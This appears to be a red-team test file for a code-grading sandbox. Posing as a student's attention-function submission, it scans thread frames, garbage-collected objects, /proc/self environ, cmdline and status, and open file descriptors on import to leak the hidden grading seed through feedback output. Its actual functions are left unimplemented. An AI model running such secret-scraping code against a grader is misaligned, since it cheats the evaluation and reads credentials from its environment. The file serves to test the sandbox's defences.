"""Attack: find the hidden seed in the sandboxed process. At import, walk every frame of
every thread (and the frames they were called from: the zygote's request, the monitor's),
every object the garbage collector tracks, /proc/self's environ, cmdline and status, and
every descriptor; print every number of 10 or more digits found, for the instructor's
feedback to carry. With the seed, a student could draw the hidden inputs themselves.
(test_batch.py asserts the student's seed from seeds.csv is not among them.)"""

# reported: SEEDHUNT
import gc
import os
import re
import sys

import torch

DIGITS = re.compile(rb"\d{10,20}")
KEYED = re.compile(rb"seed\w*\"?\s*[:=]\s*\{?\"?[^\d]{0,40}?(\d{6,20})")
found: set[int] = set()
keyed: set[int] = set()  # numbers next to a name with "seed" in it: the likeliest


def take(value, depth=0):
    if isinstance(value, bool):
        return
    if isinstance(value, int):
        if value >= 10**9:
            found.add(value)
    elif isinstance(value, str):
        take(value.encode("utf-8", "replace"), depth)
    elif isinstance(value, (bytes, bytearray, memoryview)):
        data = bytes(value)[: 1 << 20]
        for m in DIGITS.findall(data):
            found.add(int(m))
        for m in KEYED.findall(data):
            keyed.add(int(m))
    elif depth < 2 and isinstance(value, dict):
        for k, v in list(value.items())[:10000]:
            if isinstance(k, str) and "seed" in k.lower():
                take_keyed(v)
            take(k, depth + 1)
            take(v, depth + 1)
    elif depth < 2 and isinstance(value, (list, tuple, set, frozenset)):
        for v in list(value)[:10000]:
            take(v, depth + 1)


def take_keyed(value, depth=0):
    if isinstance(value, int) and not isinstance(value, bool):
        keyed.add(value)
    elif isinstance(value, dict) and depth < 2:
        for v in value.values():
            take_keyed(v, depth + 1)


for frame in sys._current_frames().values():
    while frame is not None:
        for value in list(frame.f_locals.values()):
            take(value)
        frame = frame.f_back
for obj in gc.get_objects():
    try:
        take(obj)
    except Exception:
        pass
for name in ("environ", "cmdline", "status"):
    try:
        take(open(f"/proc/self/{name}", "rb").read())
    except OSError:
        pass
for fd in os.listdir("/proc/self/fd"):
    try:
        take(os.readlink(f"/proc/self/fd/{fd}"))
        if os.path.isfile(f"/proc/self/fd/{fd}"):
            take(os.pread(int(fd), 1 << 20, 0))
    except OSError:
        pass
# A hidden seed is a 63-bit number: below 10**15 once in ten thousand.
large = sorted((n for n in found if n >= 10**15), reverse=True)
print("SEEDHUNT keyed:", " ".join(map(str, sorted(keyed)))[:3000], flush=True)
print("SEEDHUNT large:", len(large), " ".join(map(str, large))[:3000], flush=True)


def scaled_dot_product_attention(q, k, v, mask=None):
    raise NotImplementedError


def attention_with_bias(q, k, v, bias, mask=None):
    raise NotImplementedError
